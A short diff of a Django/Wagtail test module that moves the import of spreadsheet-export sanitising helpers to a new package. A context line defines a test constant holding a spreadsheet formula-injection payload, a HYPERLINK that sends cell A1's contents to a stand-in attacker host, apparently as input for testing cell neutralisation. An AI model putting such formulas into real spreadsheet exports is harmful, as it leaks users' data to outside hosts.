@@ -14,7 +14,7 @@ from django.utils import translation
 from wagtail.admin.views.reports.audit_logging import LogEntriesView
 from wagtail.log_actions import log
 
-from home.spreadsheets import SafeSpreadsheetExportMixin, neutralise_cell
+from core.spreadsheets import SafeSpreadsheetExportMixin, neutralise_cell
 from tests import factories
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
